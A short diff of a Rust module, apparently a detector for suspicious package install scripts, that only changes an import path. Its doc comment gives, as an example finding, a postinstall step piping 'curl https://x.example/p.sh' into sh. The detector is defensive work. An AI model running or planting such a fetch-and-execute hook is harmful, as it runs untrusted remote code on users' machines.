@@ -10,7 +10,7 @@
 //! **Example.** "adds the postinstall script: curl https://x.example/p.sh | sh".
 
 use super::{DriverSpec, fire_for_findings};
-use crate::engine::{Context, Sections};
+use crate::engine::context::{Context, Sections};
 use crate::signal::{Driver, FindingKind};
 
 /// `install_script` as the catalogue lists it.
